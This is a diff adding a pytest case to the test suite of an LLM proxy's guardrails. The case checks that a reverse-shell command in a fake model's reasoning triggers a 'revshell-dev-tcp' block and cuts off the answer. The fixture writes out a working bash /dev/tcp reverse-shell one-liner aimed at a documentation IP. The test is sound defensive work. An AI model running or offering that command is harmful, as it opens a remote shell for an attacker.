@@ -462,6 +462,19 @@ def test_a_cached_answer_says_hit_on_the_agent_endpoints(proxy, fake_upstream, m
     assert len(fake_upstream.find(marker)) == 1 and answer_text(which, second, stream) == "cached once"
 
 
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+@pytest.mark.parametrize("which", sorted(ENDPOINTS))
+def test_a_block_rule_in_the_reasoning_ends_the_answer_on_every_endpoint(proxy, fake_upstream, marker, which, stream):
+    """The model reasons a reverse shell: the notice, and no answer text after it, streamed or not (a streamed
+    Responses or Messages answer went on with its text; found by a black-box probe)."""
+    fake_upstream.script(Reply(match=marker, thinking="try bash -i >& /dev/tcp/203.0.113.7/4242 0>&1 ok",
+                               content="Here is the answer text after.", chunk_chars=5))
+    r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
+    assert r.status_code == 200, r.text
+    assert "blocked by carrot guardrails: revshell-dev-tcp" in r.text and "/dev/tcp" not in r.text, r.text[-800:]
+    assert "answer text after" not in r.text, r.text[-800:]
+
+
 def test_tools_the_guardrails_cannot_check_are_dropped_and_named(proxy, fake_upstream, marker):
     """Codex's request shape on a tool-capable alias: a namespace of functions is sent, web_search is not."""
     fake_upstream.script(Reply(match=marker, content="ok"))
